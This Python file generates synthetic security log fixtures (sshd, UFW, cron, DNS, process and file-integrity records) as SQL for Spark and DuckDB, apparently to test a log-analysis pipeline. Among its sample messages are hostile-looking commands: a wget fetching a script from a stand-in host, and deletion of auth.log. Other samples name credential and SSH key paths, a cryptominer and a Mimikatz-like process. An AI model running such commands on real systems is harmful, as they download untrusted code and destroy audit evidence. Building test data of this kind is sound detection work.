"""Security records derived from the given tables, as SQL that both engines run.

Time is compressed 720 times (30 days become one hour), so that ranges of seconds hold
data. Every seventh minute one feed bursts. The engines differ only in the few spellings
collected in ``Spark`` and ``Duck``.
"""

from __future__ import annotations

import hashlib

from pyspark.sql import DataFrame, SparkSession, functions as F

BASE_US = 1704067200000000
AS_OF = "2024-01-01 01:00:00"


class Spark:
    name = "spark"
    div, text = "div", "STRING"
    events, documents, pages, benchmark = "events", "documents", "pages", "benchmark"

    def micros(self, c): return f"unix_micros(CAST({c} AS TIMESTAMP))"
    def stamp(self, us): return f"timestamp_micros({us})"
    def key(self, c, k): return f"get_json_object({c}, '$.{k}')"
    def pick(self, items, i): return f"element_at(array({', '.join(items)}), CAST({i} AS INT))"
    def lst(self, items): return f"array({', '.join(items)})"
    def sha256(self, c): return f"sha2({c}, 256)"
    def clock(self, c): return f"date_format({c}, 'MMM dd HH:mm:ss')"
    def host(self, c): return f"regexp_extract({c}, '://([^/]+)', 1)"
    def series(self, n): return f"LATERAL explode(sequence(0, {n})) AS g(i)"


class Duck:
    name = "duck"
    div, text = "//", "VARCHAR"
    events, documents, pages, benchmark = "events", "documents", "pages", "benchmark"

    def micros(self, c): return f"epoch_us({c})"
    def stamp(self, us): return f"make_timestamp({us})"
    def key(self, c, k): return f"json_extract_string({c}, '$.{k}')"
    def pick(self, items, i): return f"([{', '.join(items)}])[{i}]"
    def lst(self, items): return f"[{', '.join(items)}]"
    def sha256(self, c): return f"sha256({c})"
    def clock(self, c): return f"strftime({c}, '%b %d %H:%M:%S')"
    def host(self, c): return f"regexp_extract({c}, '://([^/]+)', 1)"


def q(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


PORTS = ["22", "25", "53", "80", "443", "445", "1337", "3389", "4444", "8080"]
PATHS = ["/etc/passwd", "/etc/sudoers.d/ops", "/root/.ssh/authorized_keys", "/etc/cron.d/job", "/etc/profile",
         "/lib/systemd/system/a.service", "/etc/hosts", "/tmp/x.sh", "/usr/bin/sudo", "/opt/data.bin"]


def base(d) -> str:
    """CTEs ``b``, ``p`` and ``e0``: raw log entries from the events table."""
    tens = d.pick(PORTS, "k % 10 + 1")
    return f"""
b AS (SELECT event_id AS num, {BASE_US} + (({d.micros('ts')} - {BASE_US}) {d.div} 720) AS us,
    CAST({d.key('props', 'k')} AS INT) AS k, CAST(user_id % 10 AS INT) AS h, value FROM {d.events}),
p AS (SELECT *, CASE WHEN ((us - {BASE_US}) {d.div} 60000000) % 7 = 0 THEN 60 ELSE 20 END AS cut,
    CASE WHEN h < 5 THEN concat('203.0.113.', h) ELSE concat('10.0.0.', h) END AS src_ip,
    CASE WHEN k < 50 THEN {tens} ELSE 1000 + k END AS dst_port, CAST((num * 7 + k) % 16 AS INT) AS t FROM b),
e0 AS (SELECT lpad(CAST(num AS {d.text}), 12, '0') AS id, num, us, {d.stamp('us')} AS ts, k, h, value, src_ip, dst_port,
    CASE WHEN k < cut THEN 'auth/sshd' ELSE CASE k % 7 WHEN 0 THEN 'kernel/ufw' WHEN 1 THEN 'syslog/cron'
      WHEN 2 THEN 'syslog/sudo' WHEN 3 THEN 'dnsmasq' WHEN 4 THEN 'syslog/usb' WHEN 5 THEN 'nginx_access'
      ELSE 'kernel/oom' END END AS source,
    CASE t WHEN 0 THEN concat('Failed password for root from ', src_ip, ' port ', dst_port, ' ssh2')
      WHEN 1 THEN concat('Invalid user admin from ', src_ip, ' port ', dst_port)
      WHEN 2 THEN concat('[UFW BLOCK] IN=eth0 SRC=', src_ip, ' DST=10.0.0.1 PROTO=TCP DPT=', dst_port)
      WHEN 3 THEN 'sudo: alice : COMMAND=/bin/ls' WHEN 4 THEN 'session opened for user root'
      WHEN 5 THEN 'wget http://198.51.100.7/a.sh'
      WHEN 6 THEN concat('query[A] ', md5(CAST(num AS {d.text})), '.example.org from ', src_ip)
      WHEN 7 THEN 'rm -f /var/log/auth.log' WHEN 8 THEN 'crontab edited by root'
      WHEN 9 THEN 'usb 1-1: new high speed device' WHEN 10 THEN 'Out of memory: Kill process 77'
      WHEN 11 THEN 'sshd session accepted' WHEN 12 THEN concat('NXDOMAIN for h', k, '.badhost.bit')
      WHEN 13 THEN 'disk error on sda' WHEN 14 THEN 'warning: queue is long' ELSE 'service heartbeat ok' END AS message,
    CASE num % 8 WHEN 5 THEN 'network' WHEN 6 THEN 'fim' WHEN 7 THEN 'portscan' ELSE 'log' END AS category,
    CASE WHEN num % 8 = 6 THEN {d.pick([q(x) for x in PATHS], f'(num {d.div} 8) % 10 + 1')} ELSE '' END AS filepath
  FROM p)"""


def entries(d) -> str:
    return base(d) + f""",
entries AS (SELECT id, num, ts, source, message, message AS raw, 'linux' AS platform, category, src_ip, '' AS dst_ip,
    dst_port, '' AS protocol, filepath, CASE WHEN category = 'fim' THEN {d.sha256('message')} ELSE '' END AS file_hash,
    us FROM e0)"""


def syslog_lines(d) -> str:
    return base(d) + f""",
lines AS (SELECT id, CASE num % 10 WHEN 0 THEN concat('no timestamp here ', message)
    WHEN 1 THEN concat('   ', {d.clock('ts')}, ' web1 ', replace(source, '/', '-'), ': ', message, '  ')
    WHEN 2 THEN concat('Foo 99 10:11:12 web1 app[1]: ', message)
    ELSE concat({d.clock('ts')}, ' web1 ', replace(source, '/', '-'), '[', k, ']: ', message) END AS value FROM e0)"""


def journald_lines(d) -> str:
    return base(d) + f""",
lines AS (SELECT id, CASE WHEN num % 11 = 0 THEN concat('broken ', message) ELSE concat(
    '{{"PRIORITY":"', num % 9, '","__REALTIME_TIMESTAMP":"', CASE WHEN num % 13 = 0 THEN 0 ELSE us END, '",',
    CASE WHEN num % 5 = 0 THEN concat('"MESSAGE":["', message, '","part two"]')
      WHEN num % 7 = 0 THEN concat('"MESSAGE":"', message, repeat(' and so on', 150), num, '"') ELSE concat('"MESSAGE":"', message, '"') END,
    CASE WHEN num % 3 = 0 THEN '' ELSE concat(',"SYSLOG_IDENTIFIER":"', replace(source, '/', '-'), '"') END,
    CASE WHEN num % 6 = 0 THEN '' ELSE ',"_COMM":"comm"' END,
    CASE WHEN num % 4 = 0 THEN concat(',"_SYSTEMD_UNIT":"u', k, '.service"') ELSE '' END, '}}') END AS value FROM e0)"""


def winevents(d) -> str:
    return base(d) + f""",
winevents AS (SELECT id, {d.pick([q(c) for c in ['System', 'Application', 'Security']], 'num % 3 + 1')} AS channel,
    ts, CAST({d.pick(['1', '2', '4', '8', '16', '32'], 'num % 6 + 1')} AS INT) AS event_type,
    CAST(4000 + k AS INT) AS event_id, concat('Prov', h) AS source_name, message FROM e0)"""


def proc_lines(d) -> str:
    """Socket-table lines: little-endian hex of the address, some IPv6, some short or in other states."""
    hexa = (lambda v, n: f"lpad(hex(CAST({v} AS BIGINT)), {n}, '0')")
    v4 = f"concat({hexa('CAST(h AS INT)', 2)}, CASE WHEN h < 5 THEN '7100CB' ELSE '00000A' END)"
    state = d.pick(["'02'", "'06'", "'01'", "'0A'"], "num % 4 + 1")
    return base(d) + f""",
lines AS (SELECT id, CASE WHEN num % 9 = 0 THEN 'sl local_address rem_address' WHEN num % 9 = 1
    THEN concat('  ', num, ': 0000000000000000FFFF00000100007F:', {hexa('dst_port', 4)}, ' B80D0120000000000000000001000000:D431 ', {state}, ' 0:0')
    ELSE concat('  ', num, ': 0100007F:', {hexa('dst_port', 4)}, ' ', {v4}, ':D431 ', {state}, ' 0:0') END AS value FROM e0)"""


def ss_lines(d) -> str:
    return base(d) + """,
lines AS (SELECT id, CASE num % 9 WHEN 0 THEN 'Recv-Q Send-Q Local Address:Port Peer Address:Port'
    WHEN 1 THEN concat('SYN-RECV 0 0 [::1]:', dst_port, ' [2001:db8::1]:40000')
    WHEN 2 THEN concat('SYN-RECV 0 0 10.0.0.1:', dst_port, ' [2001:db8::', h, ']:40000')
    WHEN 3 THEN concat('SYN-RECV 0 0 10.0.0.1:http ', src_ip, ':40000')
    ELSE concat('SYN-RECV 0 0 10.0.0.1:', dst_port, ' ', src_ip, ':40000') END AS value FROM e0)"""


def connections(d) -> str:
    """Adapter B: connection snapshots every 15 seconds."""
    return base(d) + f""",
conns AS (SELECT {d.stamp(f'us - us % 15000000')} AS snapshot_ts, '10.0.0.1' AS laddr_ip,
    CAST(CASE WHEN num % 40 = 0 THEN k * 20 ELSE 40000 + k % 3 END AS INT) AS laddr_port,
    CASE WHEN num % 40 = 0 THEN NULL ELSE src_ip END AS raddr_ip,
    CASE WHEN num % 40 = 0 THEN NULL ELSE CAST(dst_port AS INT) END AS raddr_port, CAST(num % 5 AS INT) AS pid,
    CASE WHEN num % 40 = 0 THEN 'LISTEN' ELSE 'ESTABLISHED' END AS status, 'TCP' AS type,
    CASE WHEN num % 3 = 0 THEN 'unknown' ELSE concat('proc', h) END AS proc_name FROM e0)"""


PROCESS_NAMES = ["nginx", "bash", "python3", "sshd", "XMRig", "java", "curl", "cron", "node", "sh"]
PROCESS_EXES = ["/usr/bin/x", "/tmp/run", "/usr/sbin/y", "/DEV/SHM/z", "", "/usr/bin/w", "/opt/v", "/tmpx/a"]


def processes(d) -> str:
    """Adapter C: process snapshots every minute; one record per snapshot and pid."""
    return base(d) + f""",
procs AS (SELECT {d.stamp('m')} AS snapshot_ts, pid, CAST(pid {d.div} 2 AS INT) AS ppid, name, exe,
    cmdline, username, cpu FROM (
  SELECT us - us % 60000000 AS m, CAST((num * 13) % 60 AS INT) AS pid,
    max({d.pick([q(n) for n in PROCESS_NAMES], 'k % 10 + 1')}) AS name,
    max({d.pick([q(x) for x in PROCESS_EXES], 'num % 8 + 1')}) AS exe,
    max({d.lst(["'cmd'", "CASE WHEN k = 7 THEN '--run MiniMimikatz' ELSE concat('-k ', k) END"])}) AS cmdline,
    max(concat('user', h)) AS username, max(least(value, 100.0)) AS cpu
  FROM e0 GROUP BY 1, 2) x)"""


def files(d) -> str:
    """Adapter D: a baseline and a current listing from the documents; benchmark texts are new files."""
    path = f"concat('/etc/', source, '/', lpad(CAST(doc_id AS {d.text}), 9, '0'))"
    return f"""
baseline AS (SELECT {path} AS path, {d.sha256('text')} AS sha256, n_chars AS size, 420 AS mode FROM {d.documents}),
current_files AS (
  SELECT {path} AS path, CASE WHEN doc_id % 13 = 0 THEN {d.sha256("concat(text, '!')")} ELSE {d.sha256('text')} END AS sha256,
    n_chars AS size, CASE WHEN doc_id % 11 = 0 THEN 511 ELSE 420 END AS mode FROM {d.documents} WHERE doc_id % 17 <> 0
  UNION ALL
  SELECT concat('/etc/new/', item_id) AS path, {d.sha256('text')} AS sha256, CAST(length(text) AS BIGINT) AS size,
    420 AS mode FROM {d.benchmark})"""


def dns(d) -> str:
    """Adapter F: text lines with DNS queries, from log entries and from the hosts of pages."""
    return base(d) + f""",
dns_text AS (SELECT id, ts, message, '' AS raw FROM e0
  UNION ALL SELECT concat('p', lpad(CAST(page_id AS {d.text}), 11, '0')) AS id,
    {d.stamp(f'{BASE_US} + page_id * 100000')} AS ts,
    CASE page_id % 3 WHEN 0 THEN concat('query for ', {d.host('url')}, ' from 10.9.0.', page_id % 4)
      WHEN 1 THEN concat('client 10.9.0.', page_id % 4, '#5353: query: ', {d.host('url')}, ' IN A')
      ELSE concat('resolved ', {d.host('url')}, '. to 1.2.3.4') END AS message, '' AS raw FROM {d.pages})"""


TABLES = ["events", "documents", "pages", "benchmark"]


def spread(df: DataFrame, waves: int = 8) -> DataFrame:
    """Use all cores evenly for a table that is read in few splits; tables in many stay as they are.

    A split holds rows only if a row group of its file starts there, so a file with few large
    groups leaves most splits empty, however many there are. Rows are dealt by the first two
    columns, since one value of the first may be frequent. The optimizer copies a query's filters,
    with all text work in them, below a repartition, where few tasks have rows; it stops at a
    filter that depends on the partition. That one is always true.
    """
    cores = df.sparkSession.sparkContext.defaultParallelism
    if df.rdd.getNumPartitions() >= waves * cores:
        return df
    return df.repartition(2 * cores, *df.columns[:2]).filter(F.spark_partition_id() >= 0)


def spark_table(spark: SparkSession, sf: str, fixture, name: str) -> DataFrame:
    """Run a fixture in Spark over the tables in ``sf``."""
    dialect = Spark()
    tag = hashlib.md5(sf.encode()).hexdigest()[:8]
    text = fixture(dialect)
    for table in TABLES:
        view = f"{table}_{tag}"
        if f"FROM {table}" in text:
            spread(spark.read.parquet(f"{sf}/{table}.parquet")).createOrReplaceTempView(view)
            text = text.replace(f"FROM {table}", f"FROM {view}")
    return spark.sql(f"WITH {text} SELECT * FROM {name}")
